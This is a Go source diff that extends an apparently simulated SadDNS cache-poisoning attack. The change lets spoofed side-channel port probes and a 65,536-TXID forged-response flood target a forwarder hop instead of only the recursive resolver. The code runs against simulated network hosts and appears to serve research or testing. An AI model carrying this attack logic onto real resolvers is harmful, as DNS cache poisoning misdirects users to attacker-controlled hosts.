@@ -27,10 +27,19 @@ import (
 //  5. Flood the isolated port with 2^16 spoofed responses, one per
 //     TXID.
 type SadDNS struct {
-	Attacker     *netsim.Host
+	Attacker *netsim.Host
+	// ResolverAddr is the host whose socket the attack races — the
+	// recursive resolver, or a forwarder hop when a chain's weakest
+	// hop sits downstream of the resolver (see WeakestPortHop).
 	ResolverAddr netip.Addr
-	NSAddr       netip.Addr
-	Spoof        Spoof
+	// NSAddr is the authoritative nameserver muted via its RRL.
+	NSAddr netip.Addr
+	// SpoofSource is the address the spoofed probes and the TXID flood
+	// claim to come from: the target hop's upstream (what it expects
+	// answers from). Zero means NSAddr — the classic setting where the
+	// target is the recursive resolver itself.
+	SpoofSource netip.Addr
+	Spoof       Spoof
 
 	// PortMin/PortMax is the ephemeral range scanned (the OS default
 	// range is public knowledge).
@@ -68,6 +77,9 @@ func (a *SadDNS) Run(trigger Trigger) Result {
 	}
 	if a.KnownClosedPort == 0 {
 		a.KnownClosedPort = 1001
+	}
+	if !a.SpoofSource.IsValid() {
+		a.SpoofSource = a.NSAddr
 	}
 	if a.cursor < a.PortMin || a.cursor > a.PortMax {
 		a.cursor = a.PortMin
@@ -205,17 +217,17 @@ func (a *SadDNS) mute() {
 	}
 }
 
-// probe sends spoofed datagrams (source = nameserver, port 53) to the
-// given resolver ports, padding with known-closed ports so exactly 50
-// ICMP tokens are at stake.
+// probe sends spoofed datagrams (source = the target's upstream, port
+// 53) to the given target ports, padding with known-closed ports so
+// exactly 50 ICMP tokens are at stake.
 func (a *SadDNS) probe(ports []uint16) {
 	sent := 0
 	for _, p := range ports {
-		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, p, []byte("probe"))
+		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, p, []byte("probe"))
 		sent++
 	}
 	for pad := 0; sent < 50; pad++ {
-		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), []byte("pad"))
+		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, a.KnownClosedPort-1-uint16(pad%900), []byte("pad"))
 		sent++
 	}
 }
@@ -261,6 +273,6 @@ func (a *SadDNS) floodTXIDs(port uint16) {
 	for txid := 0; txid < 1<<16; txid++ {
 		wire[0] = byte(txid >> 8)
 		wire[1] = byte(txid)
-		a.Attacker.SendUDPSpoofed(a.NSAddr, 53, a.ResolverAddr, port, wire)
+		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, port, wire)
 	}
 }
